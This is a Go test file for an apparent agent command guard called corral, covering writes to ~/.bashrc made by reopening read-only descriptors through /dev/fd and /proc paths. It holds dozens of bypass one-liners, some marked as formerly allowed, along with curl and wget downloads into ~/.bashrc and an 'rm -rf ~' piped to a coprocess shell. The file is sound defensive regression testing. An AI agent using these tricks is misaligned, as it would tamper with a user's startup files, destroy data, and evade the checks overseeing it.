package rewrite

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/corral-dev/corral/guards"
)

// fdReopenRows are the writes through a descriptor's path (issue 12
// class 1): on Linux opening /dev/fd/N, /proc/self/fd/N,
// /proc/thread-self/fd/N or the shell's /proc/$$/fd/N opens again the
// file descriptor N refers to, in the new open's mode, so a descriptor
// opened for reading (exec 3<~/.bashrc) is a way to write its file. They
// passed: the write was judged as one to the descriptor, whose file was
// judged where it was opened, for reading.
var fdReopenRows = []struct {
	cmd  string
	want Decision
}{
	// Were allow.
	{`exec 3<~/.bashrc; echo x > /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/self/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/$$/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > "/proc/${$}/fd/3"`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/$BASHPID/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/thread-self/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x >> /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x >| /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x &> /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /dev/./fd//3`, Deny},
	{`exec 3<~/.bashrc; cd /dev/fd && echo x > 3`, Deny},
	// The shell's own descriptor directory as the working directory:
	// cd left it unknown ($$ is no static word), the name 3 was a file
	// of a directory only known at run time.
	{`exec 3<~/.bashrc; cd /proc/$$/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd "/proc/${BASHPID}/fd/"; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/thread-self/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/self/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/$$/fd; echo x | tee 3`, Deny},
	// Every spelling of the shell's descriptor directory, as the
	// kernel resolves it (syntax.shellFdCanon): a relative cd, a
	// variable holding $$, a task's directory, thread-self, a pattern
	// the shell matches in its own task list. Were allow (fd5).
	{`exec 3<~/.bashrc; cd /proc; cd $$/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; p=$$; cd /proc/$p/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; p="$BASHPID"; echo x > /proc/$p/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/$$/task/$$/fd/3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/$$/task/$$/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/self/task/$$/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/self/task/*/fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/thread-self; echo x > fd/3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/self; echo x > fd/3`, Deny},
	{`exec 3<~/.bashrc; cd /proc; echo x > self/fd/3`, Deny},
	{`exec 3<~/.bashrc; cd /dev; echo x > fd/3`, Deny},
	{`exec 3<~/.bashrc; cd /proc/self/fd; cd ../fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; d=/proc/$$/fd; cd $d; echo x > 3`, Deny},
	// Through the process's root and working directory links.
	{`exec 3<~/.bashrc; echo x > /proc/self/root/dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/$$/root/proc/$$/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/$$/cwd/../../../../../../../../proc/self/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x > /proc/self/cwd/3`, Allow},
	{`exec 3<~/.bashrc; d="/proc/$BASHPID"; echo x > $d/fd/3`, Deny},
	{`exec 3<~/.bashrc; CDPATH=/proc/$$ cd fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; CDPATH=/proc/$$; cd fd; echo x > 3`, Deny},
	{`exec 3<~/.bashrc; ln -s /proc/$$/fd/3 l; echo x > l`, Deny},
	{`exec 3<~/.bashrc; ln -s /proc/$$/fd d; echo x > d/3`, Deny},
	{`exec 3<~/.bashrc; ln -s /proc/self/fd d; cd d; echo x > 3`, Deny},
	// A nested shell the shell runs: its $PPID is that shell, whose
	// descriptors it inherited (was ask; syntax.ppidIsShell). A
	// redirection of its own or a wrapper that forks (sudo) leaves the
	// parent's table unknown: ask as before. (bash -c execs its last
	// simple command in place, so a "; true" keeps the shell the parent
	// in the real runs; corral denies the last-command form too.)
	{`exec 3<~/.bashrc; sh -c 'echo x > /proc/$PPID/fd/3'; true`, Deny},
	{`exec 3<~/.bashrc; bash -c 'cd /proc/$PPID/fd; echo x > 3'; true`, Deny},
	{`exec 3<~/.bashrc; env sh -c 'echo x > /proc/$PPID/fd/3'; true`, Deny},
	{`exec 3<~/.bashrc; ( sh -c 'echo x > /proc/$PPID/fd/3' )`, Deny},
	{`exec 3<~/.bashrc; ( cd /proc/$BASHPID/fd; echo x > 3 )`, Deny},
	{`exec 3<~/.bashrc; sh -c 'echo x > /proc/$PPID/fd/3' 3>/dev/null`, Ask},
	{`exec 3>out.txt; sh -c 'echo x > /proc/$PPID/fd/3'`, Allow},
	{`sh -c 'cat /proc/$PPID/status'`, Allow},
	// Look-alikes: a variable reassigned, the pid as part of a name, a
	// read, a descriptor opened for writing elsewhere.
	{`exec 3<~/.bashrc; p=$$; p=x; mkdir -p t/$p/fd; cd t/$p/fd; echo x > 3`, Allow},
	{`exec 3<~/.bashrc; mkdir -p fd$$; cd fd$$; echo x > 3`, Allow},
	{`exec 3<~/.bashrc; ln -s /proc/$$/fd/3 l; cat l > /dev/null; rm l`, Allow},
	{`exec 3>out.txt; ln -s /proc/$$/fd/3 l; echo x > l; rm l`, Allow},
	{`exec 3<~/.bashrc; mkdir -p x/fd; CDPATH=x cd fd; echo x > 3`, Allow},
	{`exec 3<~/.bashrc; cd /proc/$$/fd; cat 3 > /dev/null`, Allow},
	{`exec 3>out.txt; cd /proc/$$/fd; echo x > 3`, Allow},
	{`exec {fd}<~/.bashrc; echo x > /dev/fd/$fd`, Deny},
	{`exec {fd}<~/.bashrc; echo x > "/proc/self/fd/${fd}"`, Deny},
	{`exec {a}<~/.bashrc; exec {b}<&$a; echo x > /dev/fd/$b`, Deny},
	{`exec 3<~/.bashrc; exec 4<&3; echo x > /dev/fd/4`, Deny},
	{`exec 3<~/.bashrc; exec 4>/dev/fd/3; echo x >&4`, Deny},
	{`exec 3<~/.bashrc; dd of=/dev/fd/3 <<< x`, Deny},
	{`exec 3<~/.bashrc; echo x | tee /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x | tee -a /proc/self/fd/3`, Deny},
	{`exec 3<~/.bashrc; truncate -s 0 /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; curl -o /dev/fd/3 https://x.com/a`, Deny},
	{`exec {fd}<~/.bashrc; curl -o /dev/fd/$fd https://x.com/a`, Deny},
	{`curl -o /dev/fd/3 https://x.com/a 3<~/.bashrc`, Deny},
	{`{ echo x > /dev/fd/3; } 3<~/.bashrc`, Deny},
	{`while read l; do echo "$l" > /dev/fd/3; done < list 3<~/.bashrc`, Deny},
	{`echo x 3<~/.bashrc > /dev/fd/3`, Deny},
	{`f() { echo x > /dev/fd/3; }; f 3<~/.bashrc`, Deny},
	{`f() { echo x > /dev/fd/3; }; exec 3<~/.bashrc; f`, Deny},
	{`exec 3<~/.bashrc; (echo x > /dev/fd/3)`, Deny},
	{`exec 3<~/.bashrc; echo x | sudo tee /dev/fd/3`, Deny},
	// Standard input opened on the file, then reopened for writing.
	{`echo x < ~/.bashrc > /dev/stdin`, Deny},
	{`tee /dev/stdin < ~/.bashrc`, Deny},
	{`exec < ~/.bashrc; echo x > /dev/stdin`, Deny},
	{`while read l; do echo x > /dev/stdin; done < ~/.bashrc`, Deny},
	{`exec 2<~/.bashrc; echo x > /dev/stderr`, Deny},
	// A link to the descriptor's path, a variable holding it, a loop
	// whose second round writes through the first round's exec.
	{`exec 3<~/.bashrc; ln -s /dev/fd/3 link; echo x > link`, Deny},
	{`exec 3<~/.bashrc; p=/dev/fd/3; echo x > $p`, Deny},
	{`n=3; exec 3<~/.bashrc; echo x > /dev/fd/$n`, Deny},
	{`for i in 1 2; do echo x > /dev/fd/3; exec 3<~/.bashrc; done`, Deny},
	// Other writers: wget -O, socat without -u (data flows both ways:
	// what stdin gives is written into the file).
	{`exec 3<~/.bashrc; wget -O /dev/fd/3 https://x.com/a`, Deny},
	{`exec 3<~/.bashrc; echo x | socat - /dev/fd/3`, Deny},
	{`exec 3<~/.bashrc; echo x | socat - OPEN:/dev/fd/3`, Deny},
	{`echo x | socat - ~/.bashrc`, Deny},
	// ${fd:-3} is /dev/fd/3 when fd is unset or empty.
	{`exec 3<~/.bashrc; echo x > /dev/fd/${fd:-3}`, Ask},
	// A descriptor number only run time knows: any descriptor, so the
	// file it refers to is opened again for writing (the message was a
	// blocked path /dev/fd/, the value with N empty).
	{`echo x > /dev/fd/$N`, Ask},
	{`echo x | tee "/proc/self/fd/$N"`, Ask},
	{`read n; echo x > /proc/$$/fd/$n`, Ask},
	// exec inside a branch: the descriptor may be the file.
	{`if [ -f x ]; then exec 3<~/.bashrc; fi; echo x > /dev/fd/3`, Deny},
	{`if [ -f x ]; then exec 3<a; else exec 3<~/.bashrc; fi; echo x > /dev/fd/3`, Deny},
	{`[ -f x ] && exec 3<~/.bashrc; echo x > /proc/self/fd/3`, Deny},
	{`exec 3<>~/.bashrc; echo x > /dev/fd/3`, Deny},
	{`exec 3>>~/.bashrc; echo x > /proc/self/fd/3`, Deny},
	{`exec 3>>~/.bashrc; echo x > /proc/$$/fd/3`, Deny},
	// A download through a descriptor of a file read in the project:
	// corral cannot move it without changing what is read.
	{`exec 3<input.txt; curl -o /dev/fd/3 https://x.com/a`, Ask},
	// The coprocess's pipe is no file: the download is moved (the
	// rewritten path names no directory, and curl writes nothing).
	{`coproc cat; curl -o /dev/fd/${COPROC[1]} https://x.com/a`, Rewrite},
	// A descriptor path is the stream the descriptor points at for
	// everything that follows its output, not only the path guards: the
	// coprocess's pipe (text a shell coprocess runs: was ask, as a write
	// under /proc), a named descriptor's file a download lands in (was
	// ask: a path only known at run time).
	{`coproc bash; echo "rm -rf ~" > /dev/fd/${COPROC[1]}`, Deny},
	{`exec {fd}>f; curl https://x.io/a > /dev/fd/$fd`, Rewrite},
	{`coproc C { cat; }; echo x > /dev/fd/${C[1]}`, Allow},
	{`coproc C { cat; }; echo x | tee /dev/fd/${C[1]}`, Allow},
	{`coproc bash; echo ls > /dev/fd/${COPROC[1]}`, Allow},
	// Look-alikes: reads, writes to a descriptor opened for writing in
	// the project, stdout and stderr, a descriptor closed before, one
	// not yet open (bash opens the redirections in order), one whose
	// variable was assigned anew, /dev/fd/03 (no such entry).
	{`exec 3<input.txt; cat /dev/fd/3`, Allow},
	{`exec 3<~/.bashrc; cat /dev/fd/3`, Allow},
	{`exec 3<~/.bashrc; cat <&3`, Allow},
	{`exec 3>out.log; echo x >&3`, Allow},
	{`exec 3>out.log; echo x > /dev/fd/3`, Allow},
	{`exec 3>out.log; cd /proc/$$/fd; echo x > 3`, Allow},
	{`cd /proc/$$/fd; echo x > 2`, Allow},
	{`cd /proc/$$/fd && ls`, Allow},
	{`cd /dev/fd && ls`, Allow},
	{`exec 3<~/.bashrc; cd /proc/$$/fd; cat 3`, Allow},
	{`exec 3<input.txt; echo x > /dev/fd/3`, Allow},
	{`echo x > /dev/fd/2`, Allow},
	{`echo x > /dev/stderr`, Allow},
	{`echo x > /proc/self/fd/1`, Allow},
	{`diff <(sort a) /dev/fd/0`, Allow},
	{`exec 3<~/.bashrc; exec 3<&-; echo x > /dev/fd/3`, Allow},
	{`exec 3<~/.bashrc; echo x 3<&- > /dev/fd/3`, Allow},
	{`echo x > /dev/fd/3 3<~/.bashrc`, Allow},
	{`exec {fd}<~/.bashrc; fd=1; echo x > /dev/fd/$fd`, Allow},
	{`exec {fd}<~/.bashrc; exec {fd}<&-; echo x > /dev/fd/$fd`, Allow},
	{`exec 3<~/.bashrc; echo x > /dev/fd/03`, Allow},
	{`socat -u ~/.bashrc -`, Allow},
	{`socat - /dev/ttyUSB0`, Allow},
	{`exec 3<~/.bashrc; echo x > /dev/fd/3/`, Allow},
	{`(exec 3<~/.bashrc); echo x > /dev/fd/3`, Allow},
	{`exec 3<~/.bashrc; echo x > /dev/stdout 1<&3`, Allow},
	{`exec 3<~/.bashrc; exec 3>&-; exec 3<input.txt; echo x > /dev/fd/3`, Allow},
}

// TestFdRuntimeDescriptorMessage: a write to /dev/fd/$N with N only
// known at run time says so, not that /dev/fd/ is blocked.
func TestFdRuntimeDescriptorMessage(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{`echo x > /dev/fd/$N`, `echo x > "/proc/$$/fd/${N}"`, `echo x | tee /dev/fd/$N`, `read n < f; echo x > /dev/fd/$n`} {
		r := Check(testConfig(), cmd)
		if r.Decision != Ask {
			t.Errorf("%s: %v, want ask (%v)", cmd, r.Decision, r.Findings)
			continue
		}
		for _, f := range r.Findings {
			if strings.Contains(f.Message, "Blocked path") || !strings.Contains(f.Message, "only known at run time") {
				t.Errorf("%s: finding %q, want one saying the descriptor is only known at run time", cmd, f.Message)
			}
		}
	}
}

// TestFdReopenWrites judges the rows.
func TestFdReopenWrites(t *testing.T) {
	t.Parallel()
	for _, tc := range fdReopenRows {
		cfg := testConfig()
		cfg.Paths = guards.DefaultPolicy().WithSelfProtection(nil, cfg.Sandbox)
		r := Check(cfg, tc.cmd)
		if r.Decision != tc.want {
			t.Errorf("%s: %v, want %v (%v)", tc.cmd, r.Decision, tc.want, r.Findings)
		}
	}
}

// TestFdReopenExec runs the rows that write no download with real bash,
// HOME a scratch directory whose .bashrc holds "orig": a row corral
// denies does change ~/.bashrc (the bypass is real: Linux opens the file
// again for writing), and an allowed look-alike leaves it alone.
func TestFdReopenExec(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	if _, err := os.Stat("/proc/self/fd"); err != nil {
		t.Skip("no /proc")
	}
	for _, tc := range fdReopenRows {
		if tc.want != Deny && tc.want != Allow || strings.Contains(tc.cmd, "curl") || strings.Contains(tc.cmd, "wget") || strings.Contains(tc.cmd, "sudo") || strings.Contains(tc.cmd, "ttyUSB") {
			continue
		}
		if _, err := exec.LookPath("socat"); err != nil && strings.Contains(tc.cmd, "socat") {
			continue
		}
		if strings.Contains(tc.cmd, "[ -f x ]") {
			continue // the branch that opens ~/.bashrc is not taken here
		}
		home := t.TempDir()
		proj := filepath.Join(home, "proj")
		if err := os.Mkdir(proj, 0o755); err != nil {
			t.Fatal(err)
		}
		rc := filepath.Join(home, ".bashrc")
		for name, text := range map[string]string{rc: "orig\n", filepath.Join(proj, "input.txt"): "in\n", filepath.Join(proj, "list"): "x\n"} {
			if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		c := exec.CommandContext(ctx, bash, "-c", tc.cmd)
		c.Dir = proj
		c.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home}
		c.Stdin = strings.NewReader("")
		out, _ := c.CombinedOutput()
		cancel()
		b, _ := os.ReadFile(rc)
		changed := string(b) != "orig\n"
		if changed != (tc.want == Deny) {
			t.Errorf("%s: bash left ~/.bashrc %q (changed %v), want changed %v (%s)", tc.cmd, b, changed, tc.want == Deny, out)
		}
		cfg := &Config{Cwd: proj, Project: proj, Home: home, Sandbox: filepath.Join(proj, "agent_sandbox"), Mode: ModeRewrite, Approve: ApproveAuto}
		cfg.Paths = guards.DefaultPolicy().WithSelfProtection(nil, cfg.Sandbox)
		if d := Check(cfg, tc.cmd).Decision; d != tc.want {
			t.Errorf("%s: %v with HOME %s, want %v", tc.cmd, d, home, tc.want)
		}
	}
}

// TestFdOperandDownloads: a download that tee or dd writes to a path
// naming a descriptor lands in the file the descriptor refers to. Only
// the file of their stdout was moved, so exec 3>f; curl URL | tee
// /dev/fd/3 (and the {fd} form, dd of=, tee's own 3>f) left the
// download in ./f (allow, or ask for /dev/fd/$fd). The file is now
// moved into the sandbox; a file opened for reading (exec 3<in.txt)
// asks, as moving it would change what is read.
func TestFdOperandDownloads(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		cmd, rewritten string
		want           Decision
	}{
		{`exec 3>f; curl https://x.io/a | tee /dev/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; curl https://x.io/a | tee /dev/fd/3`, Rewrite},
		{`exec {fd}>f; curl https://x.io/a | tee /dev/fd/$fd`, `exec {fd}>/home/u/proj/agent_sandbox/f; curl https://x.io/a | tee /dev/fd/$fd`, Rewrite},
		{`exec 3>f; curl -s https://x.io/a | dd of=/dev/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; curl -s https://x.io/a | dd of=/dev/fd/3`, Rewrite},
		{`curl -s https://x.io/a | tee /dev/fd/3 3>f`, `curl -s https://x.io/a | tee /dev/fd/3 3>/home/u/proj/agent_sandbox/f`, Rewrite},
		{`{ curl -s https://x.io/a | tee /proc/self/fd/3; } 3>f`, `{ curl -s https://x.io/a | tee /proc/self/fd/3; } 3>/home/u/proj/agent_sandbox/f`, Rewrite},
		{`exec 3<in.txt; curl https://x.io/a | tee /dev/fd/3`, "", Ask},
		// sort -o and uniq's output operand naming a descriptor: the
		// file behind it moves (was allow, the download left in f).
		{`exec 3>f; curl -s https://x.io/a | sort -o /dev/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; curl -s https://x.io/a | sort -o /dev/fd/3`, Rewrite},
		{`exec 3>f; curl -s https://x.io/a | uniq - /dev/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; curl -s https://x.io/a | uniq - /dev/fd/3`, Rewrite},
		{`exec 3<in.txt; curl -s https://x.io/a | sort -o /dev/fd/3`, "", Ask},
		{`exec 3>f; cd /proc/$$/fd; curl -s https://x.io/a | tee 3`, `exec 3>/home/u/proj/agent_sandbox/f; cd /proc/$$/fd; curl -s https://x.io/a | tee 3`, Rewrite},
		{`exec 3>f; p=$$; curl -s https://x.io/a > /proc/$p/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; p=$$; curl -s https://x.io/a > /proc/$p/fd/3`, Rewrite},
		// Stdout redirected to the descriptor's path: only the file
		// behind it moves (> /dev/fd/3 was moved too, to a sandbox file
		// 3, and f stayed empty).
		{`exec 3>f; curl https://x.io/a > /dev/fd/3`, `exec 3>/home/u/proj/agent_sandbox/f; curl https://x.io/a > /dev/fd/3`, Rewrite},
		{`exec {fd}>f; curl https://x.io/a > /dev/fd/$fd`, `exec {fd}>/home/u/proj/agent_sandbox/f; curl https://x.io/a > /dev/fd/$fd`, Rewrite},
		{`exec 3>f; exec 4>/dev/fd/3; curl https://x.io/a > /dev/fd/4`, `exec 3>/home/u/proj/agent_sandbox/f; exec 4>/dev/fd/3; curl https://x.io/a > /dev/fd/4`, Rewrite},
		{`{ curl https://x.io/a > /proc/self/fd/3; } 3>f`, `{ curl https://x.io/a > /proc/self/fd/3; } 3>/home/u/proj/agent_sandbox/f`, Rewrite},
		// Look-alikes: stdout moves once, stderr is the agent's.
		{`curl -s https://x.io/a | tee /dev/stdout > f`, `curl -s https://x.io/a | tee /dev/stdout > /home/u/proj/agent_sandbox/f`, Rewrite},
		{`curl -s https://x.io/a | tee /dev/stderr`, "", Allow},
		{`exec 3>agent_sandbox/f; curl https://x.io/a | tee /dev/fd/3`, "", Allow},
	} {
		r := Check(testConfig(), tc.cmd)
		if r.Decision != tc.want || tc.rewritten != "" && r.Rewritten != tc.rewritten {
			t.Errorf("%s: %v %q, want %v %q (%v)", tc.cmd, r.Decision, r.Rewritten, tc.want, tc.rewritten, r.Findings)
		}
	}
}

// TestFdOperandDownloadsExec runs the rewritten rows with real bash and
// curl against a loopback server: the original lands the body in ./f,
// the rewritten one in the sandbox's f.
func TestFdOperandDownloadsExec(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("no curl")
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("served-body\n")) }))
	defer srv.Close()
	run := func(dir, cmd string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		c := exec.CommandContext(ctx, bash, "-c", cmd)
		c.Dir = dir
		c.Env = []string{"PATH=" + filepath.Dir(curl) + ":/usr/bin:/bin", "HOME=" + dir}
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", cmd, err, out)
		}
	}
	read := func(p string) string {
		b, _ := os.ReadFile(p)
		return string(b)
	}
	u := srv.URL + "/a"
	for _, cmd := range []string{
		`exec 3>f; curl -s ` + u + ` | tee /dev/fd/3 >/dev/null`,
		`exec {fd}>f; curl -s ` + u + ` | tee /dev/fd/$fd >/dev/null`,
		`exec 3>f; curl -s ` + u + ` | dd of=/dev/fd/3 2>/dev/null`,
		`curl -s ` + u + ` | tee /dev/fd/3 3>f >/dev/null`,
		`exec 3>f; curl -s ` + u + ` > /dev/fd/3`,
		`exec {fd}>f; curl -s ` + u + ` > /dev/fd/$fd`,
		`exec 3>f; cd /proc/$$/fd; curl -s ` + u + ` > 3`,
		`exec 3>f; curl -s ` + u + ` | sort -o /dev/fd/3`,
		`exec 3>f; curl -s ` + u + ` | uniq - /dev/fd/3`,
		`exec 3>f; p=$$; curl -s ` + u + ` > /proc/$p/fd/3`,
		`exec 3>f; cd /proc; cd $$/fd; curl -s ` + u + ` | tee 3 > /dev/null`,
	} {
		proj := t.TempDir()
		sb := filepath.Join(proj, "agent_sandbox")
		cfg := &Config{Cwd: proj, Project: proj, Home: proj, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}
		orig := t.TempDir()
		run(orig, cmd)
		if got := read(filepath.Join(orig, "f")); !strings.Contains(got, "served-body") {
			t.Errorf("%s: bash wrote %q to f, not the download (the test does not show the bypass)", cmd, got)
		}
		r := Check(cfg, cmd)
		if r.Decision != Rewrite {
			t.Errorf("%s: %s %v, want rewrite", cmd, r.Decision, r.Findings)
			continue
		}
		if err := os.MkdirAll(sb, 0o755); err != nil {
			t.Fatal(err)
		}
		run(proj, r.Rewritten)
		if got := read(filepath.Join(proj, "f")); got != "" {
			t.Errorf("%s: the rewritten %s still wrote %q to ./f", cmd, r.Rewritten, got)
		}
		if got := read(filepath.Join(sb, "f")); !strings.Contains(got, "served-body") {
			t.Errorf("%s: the rewritten %s wrote %q to the sandbox's f, want the download", cmd, r.Rewritten, got)
		}
	}
}
